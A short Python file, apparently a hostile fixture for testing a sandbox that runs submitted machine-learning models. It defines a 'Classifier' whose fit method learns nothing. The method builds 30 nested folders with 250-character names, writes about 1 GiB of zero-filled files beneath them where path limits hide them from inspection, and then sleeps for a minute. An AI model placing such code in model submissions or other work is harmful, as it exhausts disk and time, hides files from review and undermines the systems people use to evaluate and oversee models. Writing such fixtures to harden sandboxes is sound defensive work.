"""Writes files below folders whose path is too long to be looked at."""

import os
import time

from .right import Right

class Classifier(Right):
    def fit(self, X, y):
        for _ in range(30):
            os.mkdir("d" * 250)
            os.chdir("d" * 250)
        for number in range(64):
            with open(str(number), "wb") as file:
                file.write(bytes(16 << 20))
        time.sleep(60)
